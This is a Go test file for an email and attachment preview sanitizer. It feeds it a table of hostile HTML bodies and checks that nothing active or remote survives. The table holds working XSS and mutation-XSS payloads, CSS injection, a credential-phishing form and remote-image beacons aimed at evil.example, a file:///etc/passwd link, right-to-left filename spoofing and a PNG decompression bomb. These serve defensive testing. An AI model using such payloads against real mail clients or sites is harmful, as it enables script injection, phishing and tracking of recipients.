package preview_test

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/base64"
	"errors"
	"fmt"
	"image"
	"image/png"
	"io"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"holdfast/internal/extract"
	"holdfast/internal/holdfast"
	"holdfast/internal/preview"
)

func TestMain(m *testing.M) {
	extract.Main()
	os.Exit(m.Run())
}

// elements are those that a preview may have.
var elements = strings.Fields(`html head meta title body a abbr address article aside b bdi big blockquote br caption center cite code col colgroup dd del details dfn div dl dt em figcaption figure font footer
h1 h2 h3 h4 h5 h6 header hr i img ins kbd li main mark ol p pre q s samp section small span strike strong sub summary sup table tbody td tfoot th thead time tr tt u ul var`)

var harmlessStyle = regexp.MustCompile(`^[\w\s#%.,'":;!+/()-]*$`)

// judge parses a document as a browser does and says what in it runs or asks for something elsewhere.
func judge(t testing.TB, name string, body []byte) {
	t.Helper()
	doc, err := html.Parse(bytes.NewReader(body))
	if err != nil {
		t.Errorf("%s: %v", name, err)
		return
	}
	for n := range doc.Descendants() {
		switch n.Type {
		case html.CommentNode:
			t.Errorf("%s: comment %q", name, n.Data)
		case html.ElementNode:
			allowed := n.Namespace == ""
			if allowed {
				allowed = false
				for _, e := range elements {
					allowed = allowed || e == n.Data
				}
			}
			if !allowed {
				t.Errorf("%s: element %s:%s in %s", name, n.Namespace, n.Data, body)
			}
			var href, rel, target string
			for _, a := range n.Attr {
				key, value := strings.ToLower(a.Key), a.Val
				lower := strings.ToLower(value)
				switch {
				case strings.HasPrefix(key, "on"), key == "srcset", key == "srcdoc", key == "action", key == "formaction", key == "background", key == "ping", key == "poster", key == "http-equiv", key == "id", key == "name", key == "class", key == "data":
					t.Errorf("%s: %s=%q on %s", name, key, value, n.Data)
				case key == "src":
					rest, ok := strings.CutPrefix(value, "data:image/")
					kind, payload, _ := strings.Cut(rest, ";base64,")
					raw, err := base64.StdEncoding.DecodeString(payload)
					if n.Data != "img" || !ok || !strings.Contains(" png jpeg gif webp ", " "+kind+" ") || err != nil || len(raw) < 8 {
						t.Errorf("%s: %s has src=%.80q", name, n.Data, value)
					}
				case key == "href":
					href = value
					if n.Data != "a" || !strings.HasPrefix(lower, "http://") && !strings.HasPrefix(lower, "https://") && !strings.HasPrefix(lower, "mailto:") {
						t.Errorf("%s: %s has href=%q", name, n.Data, value)
					}
				case key == "rel":
					rel = value
				case key == "target":
					target = value
				case key == "style":
					if !harmlessStyle.MatchString(value) || strings.Contains(lower, "url") || strings.Contains(lower, "expression") || strings.Contains(lower, "position") || strings.Contains(lower, "behavior") || strings.Contains(lower, "binding") {
						t.Errorf("%s: style=%q", name, value)
					}
				case key == "charset" && n.Data == "meta":
				case strings.Contains(lower, "javascript:"), strings.Contains(lower, "//"):
					if key != "title" && key != "alt" {
						t.Errorf("%s: %s=%q on %s", name, key, value, n.Data)
					}
				}
			}
			if href != "" && (target != "_blank" || !strings.Contains(rel, "noopener") || !strings.Contains(rel, "noreferrer")) {
				t.Errorf("%s: link to %q has target %q, rel %q", name, href, target, rel)
			}
		}
	}
}

func mailOf(kind, body string, more ...string) string {
	return "From: =?utf-8?q?J=C3=BCrgen?= <j@example.org>\r\nTo: \"Ada, L.\" <ada@contoso.example>, bob@contoso.example\r\nSubject: =?utf-8?b?R3LDvMOfZQ==?=\r\nDate: Mon, 02 Mar 2026 10:00:00 +0100\r\n" + strings.Join(more, "") +
		"MIME-Version: 1.0\r\nContent-Type: " + kind + "\r\n\r\n" + body
}

func show(t testing.TB, raw string) holdfast.Preview {
	t.Helper()
	p, err := preview.Mail(t.Context(), strings.NewReader(raw))
	if err != nil {
		t.Fatal(err)
	}
	return p
}

func tiny(t testing.TB) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := png.Encode(&b, image.NewGray(image.Rect(0, 0, 2, 2))); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func removed(p holdfast.Preview) string {
	var all []string
	for _, r := range p.Removed {
		all = append(all, fmt.Sprint(r.What, " ", r.Count))
	}
	return strings.Join(all, ", ")
}

// hostile are bodies that do something, with what must be said of each.
var hostile = map[string]struct{ html, says string }{
	"script":                    {`a<script>alert(1)</script><SCRIPT SRC=//evil.example/x.js></SCRIPT>b`, "script 2"},
	"script in a wrong place":   {`<table><script>alert(1)</script><tr><td>x</table><scr<script>ipt>alert(2)</scr</script>ipt>`, "script 1"},
	"event handlers":            {`<img src=x onerror=alert(1)><body onload=alert(2)><p ONCLICK='alert(3)'>x`, "event handler"},
	"handler after a slash":     {`<p/onclick=alert(1)>x<p a=">" onmouseover=alert(1)>y`, "event handler 2"},
	"javascript link":           {`<a href="javascript:alert(1)">x</a><a href=" java` + "\t\n" + `script:alert(1)">y</a><a href="&#106;avascript:alert(1)">z</a><a href=vbscript:x>v</a><a href="data:text/html,<script>alert(1)</script>">d</a>`, "link that runs or opens something 5"},
	"odd links":                 {`<a href="file:///etc/passwd">f</a><a href="ms-word:ofe|u|https://evil.example/x">w</a><a href="//evil.example/">r</a><a href="/v8/Jobs">own</a><a href="http:evil">h</a>`, "link that runs or opens something 5"},
	"links":                     {`<a href="https://evil.example/?u=1" target=_top ping="https://evil.example/p" rel=opener id=x name=y>https://bank.example</a>`, ""},
	"remote images":             {`<img src="https://evil.example/p.gif" srcset="https://evil.example/2.gif 2x"><img src=//evil.example/x><img src="http:x"><img src="\\evil\share\x">`, "remote image 5"},
	"remote in other ways":      {`<table background=https://evil.example/x><td background="https://evil.example/y">x</table><body background=https://evil.example/z><input type=image src=https://evil.example/i><video poster=https://evil.example/v><source src=https://evil.example/s></video><link rel=stylesheet href=https://evil.example/c><link rel=dns-prefetch href=//evil.example>`, "linked file"},
	"svg":                       {`<svg onload=alert(1)><script>alert(1)</script><image href=https://evil.example/x /><a xlink:href="javascript:alert(1)"><text>x</text></a><foreignObject><iframe src=x></foreignObject></svg><math><mtext><script>alert(1)</script></math>`, "svg 1"},
	"svg as an image":           {`<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"><img src="data:image/png;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"><img src="data:text/html,x">`, "image that is none 3"},
	"css":                       {`<style>@import url(https://evil.example/x.css); p{background:url(//evil.example/y)}</style><p style="background:url('https://evil.example/z')">x<p style="background-image:\75rl(x);width:expression(alert(1))">y<p style="-moz-binding:url(x);behavior:url(y)">z`, "style sheet 1"},
	"css over the page":         {`<div style="position:fixed;top:0;left:0;width:9999px;height:9999px;z-index:9;color:red;background-color: rgb(1,2,3)">x</div>`, ""},
	"css that breaks out":       {`<p style="color:red;}</style><script>alert(1)</script>">x<p style='font-family:"x;background:url(//evil.example)'>y`, "css"},
	"meta refresh":              {`<meta http-equiv=refresh content="0;url=https://evil.example/"><META HTTP-EQUIV="Refresh" CONTENT=1><base href=https://evil.example/>x`, "meta refresh 2"},
	"form":                      {`<form action=https://evil.example/login method=post>Password: <input name=p type=password><textarea>t</textarea><select><option>o</select><button formaction=https://evil.example/b>Sign in</button></form>`, "form 1"},
	"frames":                    {`<iframe src=https://evil.example></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe><object data=https://evil.example/x.swf></object><embed src=https://evil.example/x><applet code=x>`, "frame 2"},
	"frameset":                  {`<html><frameset><frame src=https://evil.example></frameset></html>`, "frame"},
	"comments":                  {`<!--[if mso]><script>alert(1)</script><![endif]--><!-- x --!><img src=x onerror=alert(1)>--><![CDATA[<script>alert(1)</script>]]><?xml version="1.0"?>`, "conditional comment"},
	"mutation":                  {`<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`, ""},
	"mutation by select":        {`<select><template><style><!--</style><a rel="--></style></template></select><img id=x src onerror=alert(1)>">`, ""},
	"mutation by svg":           {`<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`, "svg"},
	"plaintext":                 {`x<plaintext><script>alert(1)</script>`, "plaintext"},
	"templates and own":         {`<template><script>alert(1)</script></template><x-evil onclick=alert(1)><slot name=a></x-evil><o:p>word</o:p>`, "template"},
	"quotes in attributes":      {`<p title="a&quot; onmouseover=&quot;alert(1)">x<img alt='"><script>alert(1)</script>' src=x>`, "remote image"},
	"unclosed":                  {`<p title="`, ""},
	"nul and control bytes":     {"<scr\x00ipt>alert(1)</scr\x00ipt><a href=\"java\x01script:alert(1)\">x</a><img src=\"x\x00\" on\x00error=alert(1)>", ""},
	"cid tricks":                {`<img src="cid:pic@x"><img src="cid:not-there"><img src="CID:svg@x"><a href="cid:pic@x">x</a><img src="cid:../../v8/Jobs"><img src="cid:bomb@x">`, "image that the mail does not have 3"},
	"phishing by order of text": {"<p>invoice\u202efdp.exe\u202c</p><a href=\"https://evil.example/\u202egpj.exe\">\u202ehttps://bank.example</a>", ""},
}

func TestNothingActiveOrRemoteIsLeftOfAHostileMail(t *testing.T) {
	bomb := append([]byte("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x01\x00\x00\x00\x01\x00\x00\x08\x06\x00\x00\x00"), make([]byte, 40)...)
	for name, tc := range hostile {
		t.Run(name, func(t *testing.T) {
			part := func(kind, id string, data []byte) string {
				return "--B\r\nContent-Type: " + kind + "\r\nContent-ID: <" + id + ">\r\nContent-Transfer-Encoding: base64\r\n\r\n" + base64.StdEncoding.EncodeToString(data) + "\r\n"
			}
			raw := mailOf(`multipart/related; boundary="B"`, "--B\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"+tc.html+"\r\n"+part("image/png", "pic@x", tiny(t))+
				part("image/svg+xml", "svg@x", []byte("<svg onload=alert(1)>"))+part("image/png", "bomb@x", bomb)+"--B--\r\n")
			p := show(t, raw)
			judge(t, name, p.Body)
			if !strings.Contains(removed(p), tc.says) {
				t.Errorf("removed %q, want it to say %q", removed(p), tc.says)
			}
			if bytes.Contains(p.Body, []byte("\u202e")) || bytes.Contains(p.Body, []byte{0}) {
				t.Errorf("it turns the order of text, or has a NUL: %q", p.Body)
			}
			if name == "cid tricks" && (bytes.Count(p.Body, []byte("<img")) != 1 || !p.Attachments[0].Inline || p.Attachments[1].Inline) {
				t.Errorf("images: %s, attachments %+v", p.Body, p.Attachments)
			}
			if name == "links" && !bytes.Contains(p.Body, []byte("[https://evil.example/?u=1]")) {
				t.Errorf("the link does not show where it goes: %s", p.Body)
			}
			if name == "css over the page" && !bytes.Contains(p.Body, []byte("color: red")) {
				t.Errorf("harmless style is lost: %s", p.Body)
			}
			// As the text of a mail without parts, in another charset, and as plain text.
			judge(t, name+" alone", show(t, mailOf("text/html; charset=windows-1252", tc.html)).Body)
			text := show(t, mailOf("text/plain", tc.html))
			judge(t, name+" as text", text.Body)
			if len(text.Removed) > 0 {
				t.Errorf("of plain text %v is removed", text.Removed)
			}
		})
	}
}

func TestMailShowsWhatPeopleRead(t *testing.T) {
	raw := mailOf(`multipart/mixed; boundary=M`, "--M\r\nContent-Type: multipart/alternative; boundary=A\r\n\r\n--A\r\nContent-Type: text/plain\r\n\r\nplain\r\n--A\r\nContent-Type: text/html\r\n\r\n<p>rich <b>text</b></p>\r\n--A--\r\n"+
		"--M\r\nContent-Type: application/pdf; name=\"=?utf-8?q?Rechnung_=E2=80=AEfdp.exe?=\"\r\nContent-Disposition: attachment\r\nContent-Transfer-Encoding: base64\r\n\r\n"+base64.StdEncoding.EncodeToString([]byte("twelve bytes"))+
		"\r\n--M\r\nContent-Type: message/rfc822\r\n\r\nSubject: inner\r\n\r\n<script>\r\n--M\r\nContent-Type: text/plain\r\n\r\nfooter\r\n--M--\r\n", "Cc: not an address at all\r\n", "X-Odd: a\u202eb\r\n")
	p := show(t, raw)
	judge(t, "mail", p.Body)
	if p.Subject != "Grüße" || len(p.From) != 1 || p.From[0].Name != "Jürgen" || len(p.To) != 2 || p.To[0].Name != "Ada, L." || p.Date.Hour() != 9 || len(p.Cc) != 1 || p.Cc[0].Name != "not an address at all" {
		t.Errorf("got %+v", p)
	}
	body := string(p.Body)
	if !strings.Contains(body, "rich <b>text</b>") || strings.Contains(body, "plain<") || !strings.Contains(body, "footer") {
		t.Errorf("body %s", body)
	}
	if len(p.Attachments) != 2 || p.Attachments[0].Size != 12 || p.Attachments[0].Name != "Rechnung \ufffdfdp.exe" || p.Attachments[1].Name != "attached mail.eml" {
		t.Errorf("attachments %+v", p.Attachments)
	}
	for _, h := range p.Headers {
		if strings.ContainsRune(h.Value, '\u202e') {
			t.Errorf("header %q turns the order of text", h.Value)
		}
	}
	var got string
	err := preview.Attachment(t.Context(), strings.NewReader(raw), 0, func(a holdfast.MailAttachment, r io.Reader) error {
		b, err := io.ReadAll(r)
		got = string(b)
		return err
	})
	if err != nil || got != "twelve bytes" {
		t.Errorf("the attachment is %q, %v", got, err)
	}
	for _, n := range []int{-1, 2, 99} {
		if err := preview.Attachment(t.Context(), strings.NewReader(raw), n, nil); holdfast.KindOf(err) != holdfast.KindNotFound {
			t.Errorf("attachment %d: %v", n, err)
		}
	}
}

func TestGarbledAndHugeMailsEnd(t *testing.T) {
	deep := ""
	for i := range 200 {
		deep += fmt.Sprintf("Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n", i, i)
	}
	many := mailOf("multipart/mixed; boundary=B", strings.Repeat("--B\r\nContent-Type: text/plain\r\n\r\nx\r\n", 5000)+"--B--")
	for name, raw := range map[string]string{
		"empty": "", "no mail": "\x00\x01\x02", "deep": deep, "many": many, "no end": mailOf("multipart/mixed; boundary=B", "--B\r\nContent-Type: text/html\r\n\r\n<p>x"),
		"nested markup":     mailOf("text/html", strings.Repeat("<div>", 100_000)+"deep"),
		"long attribute":    mailOf("text/html", "<p title='"+strings.Repeat("x", 3<<20)+"'>y"),
		"long text":         mailOf("text/plain", strings.Repeat("0123456789\r\n", 1<<20)),
		"long header":       "Subject: " + strings.Repeat("x", 2<<20) + "\r\n\r\nx",
		"wrong encoding":    mailOf("text/html\r\nContent-Transfer-Encoding: base64", "<p>!!! not base64"),
		"unknown encoding":  mailOf("text/html\r\nContent-Transfer-Encoding: x-rot13", "<script>x</script>"),
		"unknown charset":   mailOf("text/html; charset=x-klingon", "<p>\xe4<script>x</script>"),
		"utf-7 is not read": mailOf("text/html; charset=utf-7", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
		"binary as text":    mailOf("text/plain", "\x00\xff\x00\xfe"),
	} {
		t.Run(name, func(t *testing.T) {
			p := show(t, raw)
			judge(t, name, p.Body)
			if len(p.Body) > 8<<20 {
				t.Errorf("%d bytes", len(p.Body))
			}
			if (name == "long text") != p.Truncated {
				t.Errorf("truncated is %v", p.Truncated)
			}
			if (name == "deep" || name == "many") && p.Why == "" {
				t.Error("it does not say that something is not shown")
			}
		})
	}
	broken := errors.New("the disk is gone")
	if _, err := preview.Mail(t.Context(), io.MultiReader(strings.NewReader(mailOf("multipart/mixed; boundary=B", "--B\r\n\r\nx")), failing{broken})); !errors.Is(err, broken) {
		t.Errorf("an error of the repository becomes %v", err)
	}
	gone, cancel := context.WithCancel(t.Context())
	cancel()
	if _, err := preview.Mail(gone, strings.NewReader(many)); !errors.Is(err, context.Canceled) {
		t.Errorf("who has left is answered %v", err)
	}
}

type failing struct{ err error }

func (f failing) Read([]byte) (int, error) { return 0, f.err }

func TestFilesAreShownAsWhatTheyAre(t *testing.T) {
	var docx bytes.Buffer
	z := zip.NewWriter(&docx)
	w, err := z.Create("word/document.xml")
	if err == nil {
		_, err = io.WriteString(w, "<w:document><w:p><w:t>&lt;script&gt;text</w:t></w:p>")
	}
	if err = errors.Join(err, z.Close()); err != nil {
		t.Fatal(err)
	}
	pic := string(tiny(t))
	for name, tc := range map[string]struct{ file, data, kind, kept, body string }{
		"image":              {"a.png", pic, "image", "image/png", pic},
		"image by content":   {"a.html", pic, "image", "image/png", pic},
		"not an image":       {"a.png", "<script>alert(1)</script>", "text", "text/plain; charset=utf-8", "<script>alert(1)</script>"},
		"garbled image":      {"a.png", pic[:20], "none", "", ""},
		"too many pixels":    {"a.gif", "GIF89a\xff\xff\xff\xff\x00\x00\x00", "none", "", ""},
		"svg is a program":   {"a.svg", "<svg onload=alert(1)></svg>", "text", "text/plain; charset=utf-8", "<svg onload=alert(1)></svg>"},
		"html as text":       {"a.html", "<html><body>a<script>b</script></body>", "text", "text/plain; charset=utf-8", "a"},
		"word":               {"a.docx", docx.String(), "text", "text/plain; charset=utf-8", "<script>text"},
		"empty":              {"a.txt", "", "text", "text/plain; charset=utf-8", ""},
		"binary":             {"a.exe", "MZ" + strings.Repeat("\x00\x03", 400), "none", "", ""},
		"name with a turn":   {"a\u202etxt.exe", "x", "text", "text/plain; charset=utf-8", "x"},
		"garbled pdf":        {"a.pdf", "%PDF-1.4 nothing", "none", "", ""},
		"webp without sizes": {"a.webp", "RIFF\x00\x00\x00\x00WEBPVP8X", "none", "", ""},
	} {
		t.Run(name, func(t *testing.T) {
			p, err := preview.File(t.Context(), tc.file, int64(len(tc.data)), strings.NewReader(tc.data))
			if err != nil || p.Kind != tc.kind || p.Type != tc.kept || string(p.Body) != tc.body || (p.Kind == "none") != (p.Why != "") || strings.ContainsRune(p.Name, '\u202e') {
				t.Errorf("got %+v, %v", p, err)
			}
		})
	}
	damaged := holdfast.Damaged("block x")
	if _, err := preview.File(t.Context(), "a.txt", 5, io.MultiReader(strings.NewReader(strings.Repeat("x", 600)), failing{damaged})); !errors.Is(err, damaged) {
		t.Errorf("damage becomes %v", err)
	}
}

// TestRealMails shows a corpus of real mails, where it lies beside the project.
func TestRealMails(t *testing.T) {
	files, err := filepath.Glob("../../../shared/data/mail/*.eml")
	if err != nil {
		t.Fatal(err)
	}
	for _, file := range files {
		raw, err := os.ReadFile(file)
		if err != nil {
			t.Fatal(err)
		}
		judge(t, filepath.Base(file), show(t, string(raw)).Body)
	}
}

func FuzzMail(f *testing.F) {
	for _, tc := range hostile {
		f.Add(mailOf("text/html", tc.html))
	}
	f.Add(mailOf("multipart/related; boundary=B", "--B\r\nContent-Type: text/html\r\n\r\n<img src=cid:a>\r\n--B\r\nContent-ID: <a>\r\nContent-Type: image/png\r\n\r\nx\r\n--B--"))
	f.Fuzz(func(t *testing.T, raw string) {
		p, err := preview.Mail(t.Context(), strings.NewReader(raw))
		if err != nil {
			t.Fatal(err)
		}
		judge(t, "mail", p.Body)
	})
}
